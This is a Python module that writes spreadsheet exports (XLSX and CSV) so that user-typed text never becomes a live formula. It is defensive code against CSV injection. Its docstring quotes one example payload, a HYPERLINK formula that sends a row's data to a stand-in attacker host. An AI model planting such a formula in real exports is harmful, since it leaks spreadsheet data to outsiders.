"""The one writer of spreadsheet exports (XLSX and CSV): no text a user typed becomes a live formula.

A registrant named `=HYPERLINK("https://evil.example/?"&A2,"click")` must reach the staff's spreadsheet as that
text, not as a link that leaks the row (CSV injection, OWASP). Spreadsheet programs start a formula at `=`, `+`,
`-` or `@`, and some skip a leading tab or carriage return before looking.

- XLSX: every string is written as a text cell (openpyxl would otherwise turn a string starting with `=` into a
  formula, and `#N/A` into an error). A text cell is never evaluated, and the value keeps no visible mark.
- CSV has no cell types, so a text starting with one of those characters gets a leading apostrophe (the OWASP
  advice; Excel and LibreOffice show the rest as text). Laurel's own import takes it off again (`unescape`), so
  an export imported back changes nothing.
"""

import csv
import io
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

from django.utils.functional import Promise

if TYPE_CHECKING:  # the library loads when first used, not with the URL map
    from openpyxl import Workbook

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _starts_formula(text: str) -> bool:
    """Whether `text`, after any apostrophes this module added, starts a formula. Counting the apostrophes makes
    the escape reversible: `=x` -> `'=x`, and a text that really starts with `'=` -> `''=x`."""
    return text.lstrip(QUOTE).startswith(FORMULA_TRIGGERS)


def csv_text(value: Any) -> Any:
    """A CSV cell: text that would start a formula gets a leading apostrophe; other values pass unchanged."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and _starts_formula(value):
        return QUOTE + value
    return value


def unescape(text: str) -> str:
    """The text `csv_text` escaped, as it was typed (for Laurel's own import of its exports)."""
    if text.startswith(QUOTE) and _starts_formula(text):
        return text[1:]
    return text


class CsvWriter:
    """`csv.writer` whose every cell goes through `csv_text`. `writerow` returns what the stream's `write`
    returns, so a stream that echoes its argument turns it into a generator of lines for a streaming response."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([csv_text(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class Echo:
    """A stream whose `write` returns the line: with `CsvWriter`, each row becomes the next chunk of a
    `StreamingHttpResponse`."""

    def write(self, value: str) -> str:
        return value


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """A whole CSV file, UTF-8 with a byte-order mark so that Excel reads the Chinese text right."""
    buffer = io.StringIO()
    CsvWriter(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8-sig")


def _cell(sheet, value: Any):
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        # Control characters are not allowed in XLSX; openpyxl would refuse the whole export for one of them.
        cell = WriteOnlyCell(sheet, ILLEGAL_CHARACTERS_RE.sub("", value))
        cell.data_type = "s"
        return cell
    return WriteOnlyCell(sheet, value)


def append(sheet, row: Iterable[Any]) -> None:
    """Append one row to a worksheet (write-only or not), every string as a text cell."""
    sheet.append([_cell(sheet, value) for value in row])


def workbook_bytes(workbook: "Workbook") -> bytes:

    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
